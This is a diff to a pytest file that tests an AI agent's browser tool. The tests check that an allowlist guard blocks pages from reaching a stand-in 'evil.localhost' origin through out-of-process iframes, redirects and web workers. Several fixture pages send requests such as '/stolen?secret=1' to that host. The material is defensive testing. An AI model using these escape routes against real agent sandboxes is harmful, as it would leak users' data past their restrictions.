@@ -30,14 +30,23 @@ pytest_plugins = ["tests.agent.gateway_fixtures"]  # aws_env
 
 BROWSER_ID = "agentcore_dev_browser-AbCdEf1234"
 ALLOWED = "docs.localhost"
+OTHER = "docs2.localhost"  # a second allowed site: its frames run in their own process (site isolation)
 EVIL = "evil.localhost"
 WAIT_SECONDS = 60  # generous: the suite shares a loaded machine
 
 pytestmark = pytest.mark.skipif(chromium_path() is None, reason="Debian's chromium is not installed")
 
 
-def pages(evil: str) -> dict[str, str]:
-    """Pages of the allowed site, each trying one way out to `evil` (the evil origin's root URL)."""
+# a script that fetches a URL of its own site which redirects to evil, then reports that it is done
+AFTER_REDIRECT = "fetch('/redirect').catch(() => 0).then(() => fetch('/done-{way}'))"
+
+
+def pages(evil: str, other: str, allowed: str) -> dict[str, str]:
+    """Pages of the allowed sites, each trying one way out to `evil` (the evil origin's root URL).
+
+    `other` and `allowed` are the root URLs of the two allowed sites: a frame of one in a page of the other
+    runs out of process (a CDP target of its own).
+    """
     html = "<html><head><title>{title}</title></head><body><p>{title}</p>{body}</body></html>"
     bodies = {
         "/frame": f"<iframe src='{evil}frame' onload=\"fetch('/done-frame')\"></iframe>",
@@ -53,6 +62,20 @@ def pages(evil: str) -> dict[str, str]:
         ),
         "/leave": f"<script>addEventListener('load', () => {{ location.href = '{evil}away'; }})</script>",
         "/plain": "<a href='/plain'>Again</a>",
+        # out-of-process frames of the second allowed site, each redirected to evil in its own target
+        "/oopif-fetch": f"<iframe src='{other}fetches-redirect'></iframe>",
+        "/fetches-redirect": f"<script>{AFTER_REDIRECT.format(way='oopif-fetch')}</script>",
+        "/oopif-navigate": (
+            f"<iframe src='{other}navigates-redirect' onload=\"++this.dataset.loads == 2 && "
+            "fetch('/done-oopif-navigate')\" data-loads=0></iframe>"
+        ),
+        "/navigates-redirect": "<script>onload = () => { location.href = '/redirect'; };</script>",
+        "/oopif-nested": f"<iframe src='{other}nests'></iframe>",
+        "/nests": f"<iframe src='{allowed}fetches-nested'></iframe>",  # docs in docs2 in docs
+        "/fetches-nested": f"<script>{AFTER_REDIRECT.format(way='oopif-nested')}</script>",
+        # workers: a fetch to evil, then one redirected to evil
+        "/dedicated-worker": "<script>new Worker('/worker.js?way=dedicated-worker')</script>",
+        "/shared-worker": "<script>new SharedWorker('/worker.js?way=shared-worker')</script>",
     }
     return {path: html.format(title=path[1:], body=body) for path, body in bodies.items()}
 
@@ -74,7 +97,13 @@ class Site:
                 if self.path == "/redirect":
                     self.send_bytes(302, b"", {"Location": site.url("/stolen?secret=1", EVIL)})
                     return
-                page = pages(site.url("/", EVIL)).get(self.path)
+                if self.path.startswith("/worker.js?way="):
+                    way = self.path.partition("=")[2]
+                    script = f"fetch('{site.url('/data', EVIL)}').catch(() => 0).then(() => {AFTER_REDIRECT})"
+                    body = script.replace("{way}", way).encode()
+                    self.send_bytes(200, body, {"Content-Type": "text/javascript"})
+                    return
+                page = pages(*(site.url("/", host) for host in (EVIL, OTHER, ALLOWED))).get(self.path)
                 status, body = (200, page.encode()) if page else (404, b"not found")
                 self.send_bytes(status, body, {"Content-Type": "text/html; charset=utf-8"})
 
@@ -120,7 +149,7 @@ def browse(aws_env, tmp_path: Path, monkeypatch) -> Iterator[Callable[..., str]]
     plane = DataPlane(browser=browser).start()
     monkeypatch.setenv("AWS_ENDPOINT_URL_BEDROCK_AGENTCORE", plane.endpoint_url)
     tool = BrowserTool(
-        region="us-east-1", browser_id=BROWSER_ID, allowed_domains=(ALLOWED,), timeout_seconds=30
+        region="us-east-1", browser_id=BROWSER_ID, allowed_domains=(ALLOWED, OTHER), timeout_seconds=30
     )
     agent = Agent()
 
@@ -162,6 +191,25 @@ def test_a_frame_a_fetch_or_a_websocket_to_another_site_is_blocked(browse, site,
     assert site.evil_requests() == []
 
 
+@pytest.mark.parametrize("way", ["oopif-fetch", "oopif-navigate", "oopif-nested"])
+def test_a_redirect_inside_a_frame_of_another_allowed_site_is_refused_before_it_is_followed(
+    browse, site, way
+):
+    """The frame runs in its own process, a CDP target of its own: its redirect hops are paused there too."""
+    answer = browse("open", url=site.url(f"/{way}"))
+    site.wait_for(f"/done-{way}")
+    assert "URL: " + site.url(f"/{way}") in answer
+    assert site.evil_requests() == []
+    assert f"blocked this page's requests to sites not allowed: {EVIL}" in browse("read")
+
+
+@pytest.mark.parametrize("way", ["dedicated-worker", "shared-worker"])
+def test_a_worker_cannot_fetch_from_another_site_nor_be_redirected_there(browse, site, way):
+    browse("open", url=site.url(f"/{way}"))
+    site.wait_for(f"/done-{way}")
+    assert site.evil_requests() == []
+
+
 def test_an_image_from_another_site_is_blocked_and_the_answer_says_so(browse, site):
     browse("open", url=site.url("/image"))
     site.wait_for("/done-image")
@@ -198,8 +246,16 @@ def test_other_schemes_are_refused(browse, site):
 
 
 def test_a_redirect_the_browser_followed_past_the_guard_is_refused(browse, site, monkeypatch):
-    """The backstop: a hop no CDP client paused (here the response guard is switched off) refuses the page."""
-    monkeypatch.setattr(browser_guard, "_redirect_target", lambda event: None)
+    """The backstop: a hop the interception let through (here every hop is continued unchecked) is refused."""
+    checked = browser_guard.RequestGuard._paused
+
+    async def hops_unchecked(guard: Any, cdp: Any, event: dict[str, Any]) -> None:
+        if event.get("redirectedRequestId"):
+            await cdp.send("Fetch.continueRequest", {"requestId": event["requestId"]})
+        else:
+            await checked(guard, cdp, event)
+
+    monkeypatch.setattr(browser_guard.RequestGuard, "_paused", hops_unchecked)
     answer = browse("open", url=site.url("/redirect"))
     assert answer == f"Refused: the page reached '{EVIL}' through a redirect, which is not an allowed site."
     assert site.evil_requests() == [
